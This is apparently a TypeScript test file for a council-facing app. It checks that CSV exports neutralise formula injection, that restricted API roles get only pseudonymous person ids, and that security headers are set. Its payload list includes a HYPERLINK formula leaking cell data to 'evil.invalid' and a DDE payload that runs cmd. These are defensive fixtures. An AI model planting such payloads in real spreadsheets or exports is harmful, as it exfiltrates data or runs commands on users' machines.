// No side doors (issue 17, part 4): every spreadsheet leaves with its formulas
// neutralised, no API answer gives a real person id to a role that may not
// identify people, and the browser is told to turn off what Reachable never uses.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import { toCsv, FORMULA_START } from '../src/platform/csv.ts';
import { ROLES, can, type Role } from '../src/platform/permissions.ts';
import { createApiClient } from '../src/modules/access/accounts.ts';
import { readStreetCrimes } from '../src/modules/crime-data/policeStreet.ts';
import { saveImport } from '../src/modules/crime-data/imports.ts';
import { makeAgency, makeUser, newResponse, signedIn, testApp, type Client, type TestApp } from './support/app.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.invalid/?leak="&B2,"Open map")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const FORMULA = PAYLOADS[0];

/** RFC 4180 cells, quotes undone. */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r?\n|$)/g;
  for (let m; (m = re.exec(csv)) && m[0] !== ''; ) out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
  return out;
}
const isNumber = (cell: string) => cell.trim() !== '' && Number.isFinite(Number(cell));

describe('the one CSV writer', () => {
  it.each(PAYLOADS)('neutralises a cell starting %j, and leaves numbers alone', (payload) => {
    const [, row] = cells(toCsv(['a', 'b'], [[payload, -5]])).reduce<string[][]>((rows, c, i) => (i % 2 ? rows[rows.length - 1].push(c) : rows.push([c]), rows), []);
    expect(row[0]).toBe(`'${payload}`);
    expect(row[1]).toBe('-5');
  });
});

let t: TestApp;
let councilId: string;
let everyone: Client;
let response: Awaited<ReturnType<typeof newResponse>>;
beforeAll(async () => {
  t = await testApp();
  const council = await makeAgency(t.db, { kind: 'council', receivesIncidents: true });
  councilId = council.id;
  // A named place with a formula for a name, next to a cluster of crimes: it reaches the tasking list.
  await t.db.insertInto('place').values({ name: FORMULA, kind: 'station', easting: 537_450, northing: 188_950 }).execute();
  const header = 'Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,Crime type,Last outcome category,Context';
  const rows = Array.from({ length: 40 }, (_, i) => `c${i},2026-0${1 + (i % 9)},Met,Met,${(-0.0199 + (i % 7) * 0.0001).toFixed(5)},${(51.583 + (i % 5) * 0.0001).toFixed(5)},On or near Hoe Street,E01004437,Waltham Forest 020A,Robbery,,`);
  await saveImport(t.db, {}, 'police_street', [{ fileName: 'f.csv', rows: readStreetCrimes([header, ...rows].join('\n')) }]);
  // A user with a formula for a name, whose work is in the audit log.
  const user = await makeUser(t.db, council.id, [...ROLES]);
  await t.db.updateTable('app_user').set({ display_name: FORMULA }).where('id', '=', user.id).execute();
  everyone = await signedIn(t, user);
  response = await newResponse(t, councilId, 'Ayo', { family: 'Sidedoor' });
  await everyone.get(`/people/${response.personId}`);
});
afterAll(() => t.close());

const EXPORT_QUERY: Record<string, string> = {
  '/tasking.csv': 'sources=police_street&from=2026-01&to=2026-09&boroughs=Waltham+Forest',
};

describe('every export in the route table', () => {
  const exportRoutes = () => t.app.routeTable.filter((r) => r.method === 'GET' && !r.api && (r.url.endsWith('.csv') || r.url.includes('/export')));

  it('are all found, and each answers through the one writer with no live formula in any cell', async () => {
    const routes = exportRoutes();
    expect(routes.map((r) => r.url).sort()).toEqual(
      ['/audit/export.csv', '/board/export.csv', '/disproportionality/export.csv', '/episodes/:id/notes.csv', '/figures/export.csv', '/network/:kind/:id/export/:format', '/products/:id/tables.csv', '/strategy/alignment.csv', '/tasking.csv', '/what-we-hold.csv'].sort(),
    );
    const reached: string[] = [];
    for (const route of routes) {
      const urls = route.url.includes(':format')
        ? ['i2.csv', 'people.csv'].map((f) => `/network/person/${response.personId}/export/${f}`)
        : [route.url.replace(':id', randomUUID()) + (EXPORT_QUERY[route.url] ? `?${EXPORT_QUERY[route.url]}` : '')];
      for (const url of urls) {
        const res = await everyone.get(url);
        if (res.statusCode !== 200) continue;
        expect(res.headers['content-type'], url).toContain('text/csv');
        const live = cells(res.body).filter((c) => FORMULA_START.test(c) && !isNumber(c));
        expect(live, url).toEqual([]);
        if (res.body.includes(`'${FORMULA.replace(/"/g, '""')}`)) reached.push(route.url);
      }
    }
    // The formula reached these exports as text, and came out neutralised.
    expect(reached).toEqual(expect.arrayContaining(['/tasking.csv', '/audit/export.csv']));
  });
});

describe('the API and people it may not identify', () => {
  const blind = ROLES.filter((role) => !can([role], 'person.identify'));
  const apiRoutes = () => t.app.routeTable.filter((r) => r.api && r.method !== 'HEAD');

  it.each(blind)('a %s credential gets no real person id from any API route, and none is accepted from it', async (role: Role) => {
    const { secret } = await createApiClient(t.db, { agencyId: councilId, name: `${role} system`, role, createdBy: null });
    const people = (await t.db.selectFrom('person').select('id').execute()).map((p) => p.id);
    const seen: string[] = [];
    for (const route of apiRoutes()) {
      const url = route.url.replace(':id', route.url.startsWith('/api/v1/incidents') ? response.incidentId : randomUUID()) + (route.method === 'GET' && route.url === '/api/v1/people' ? '?name=Ayo+Sidedoor' : '');
      const res = await t.app.inject({
        method: route.method as 'GET',
        url,
        headers: { authorization: `Bearer ${secret}`, 'idempotency-key': randomUUID() },
        ...(route.method === 'POST' ? { payload: { personId: response.personId, people: [{ personId: response.personId, role: 'victim' }] } } : {}),
      });
      if (res.statusCode < 300) seen.push(route.url);
      for (const id of people) expect(res.body, `${route.method} ${route.url}`).not.toContain(id);
    }
    if (can([role], 'incident.read')) {
      expect(seen).toContain('/api/v1/incidents/:id');
      const again = await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${response.incidentId}`, headers: { authorization: `Bearer ${secret}` } });
      const other = await createApiClient(t.db, { agencyId: councilId, name: `${role} second system`, role, createdBy: null });
      const third = await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${response.incidentId}`, headers: { authorization: `Bearer ${other.secret}` } });
      const pseudonymOf = (body: string) => (JSON.parse(body) as { people: { personId: string }[] }).people[0].personId;
      // Stable for this credential, different for another.
      expect(pseudonymOf(again.body)).toMatch(/^pseudonym-[0-9a-f]{24}$/);
      expect(pseudonymOf(again.body)).toBe(pseudonymOf((await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${response.incidentId}`, headers: { authorization: `Bearer ${secret}` } })).body));
      expect(pseudonymOf(third.body)).not.toBe(pseudonymOf(again.body));
    }
  });

  it('still gives real ids to roles that identify people', async () => {
    const { secret } = await createApiClient(t.db, { agencyId: councilId, name: 'coordinator system', role: 'coordinator', createdBy: null });
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${response.incidentId}`, headers: { authorization: `Bearer ${secret}` } });
    expect(res.body).toContain(response.personId);
  });
});

describe('browser features', () => {
  it('turns off what Reachable never uses, keeps passkeys for itself, and sends no X-Frame-Options beside frame-ancestors', async () => {
    const res = await everyone.get('/');
    const policy = res.headers['permissions-policy'] as string;
    for (const feature of ['camera=()', 'microphone=()', 'geolocation=()', 'payment=()', 'usb=()', 'publickey-credentials-get=(self)']) expect(policy).toContain(feature);
    expect(res.headers['x-frame-options']).toBeUndefined();
    expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
  });
});
